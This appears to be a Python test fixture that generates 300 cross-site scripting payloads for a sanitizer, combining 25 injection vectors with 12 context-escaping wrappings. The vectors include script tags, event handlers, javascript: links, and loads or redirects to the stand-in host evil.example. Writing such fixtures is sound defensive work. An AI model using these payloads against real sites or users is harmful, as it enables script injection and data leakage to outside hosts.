"""Three hundred pieces of hostile text: every vector in every wrapping. Each would set `window.hacked` or fetch."""

from itertools import product

VECTORS = (
    "<script>window.hacked=1</script>",
    "<img src=x onerror=window.hacked=1>",
    "<svg onload=window.hacked=1>",
    "<svg><script>window.hacked=1</script></svg>",
    "<iframe srcdoc='<script>parent.hacked=1</script>'></iframe>",
    "<iframe src='javascript:parent.hacked=1'></iframe>",
    "<details open ontoggle=window.hacked=1>x</details>",
    "<input autofocus onfocus=window.hacked=1>",
    "<body onpageshow=window.hacked=1>",
    "<video><source onerror=window.hacked=1></video>",
    "<audio src=x onerror=window.hacked=1>",
    "<math><mtext><img src=x onerror=window.hacked=1></mtext></math>",
    "<style>@import 'http://evil.example/x.css';</style>",
    "<link rel=stylesheet href=http://evil.example/x.css>",
    "<img src=http://evil.example/x.png>",
    "<base href=http://evil.example/>",
    "<meta http-equiv=refresh content='0;url=http://evil.example/'>",
    "<object data=http://evil.example/x></object>",
    "<embed src=http://evil.example/x>",
    "<form action=http://evil.example/><input type=submit autofocus></form>",
    "<a href=javascript:window.hacked=1>x</a>",
    "[x](javascript:window.hacked=1)",
    "![x](http://evil.example/x.png)",
    "<http://evil.example/>",
    "<template><script>window.hacked=1</script></template><img/src=x/onerror=window.hacked=1>",
)
WRAPPINGS = (
    "{}",
    '">{}',
    "'>{}",
    "</p></div>{}",
    "--><!--{}",
    "</script>{}",
    "</textarea></style></title>{}",
    "```html\n{}\n```",
    "\n\n{}\n\n",
    "<![CDATA[{}]]>",
    "&lt;{}&gt;",
    "\u202e{}\u200b",
)
PAYLOADS = [wrapping.format(vector) for vector, wrapping in product(VECTORS, WRAPPINGS)]
